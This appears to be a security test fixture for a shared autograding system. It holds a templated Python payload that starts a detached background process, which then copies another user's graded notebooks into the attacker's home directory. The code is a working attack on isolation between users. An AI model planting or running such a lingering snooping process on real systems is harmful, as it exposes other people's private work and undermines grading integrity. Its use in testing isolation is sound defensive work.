"""Leave a process behind that reads the next person's work."""

CODE = r'''
import subprocess, sys
code = """# @MARK@
import glob, time
for _ in range(100):
    for name in glob.glob("@COURSE@/autograded/@VICTIM@/*/*.ipynb"):
        open("@HOME@/@MARK@", "w").write(open(name).read())
    time.sleep(1)
"""
subprocess.Popen(["nohup", sys.executable, "-c", code], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
'''
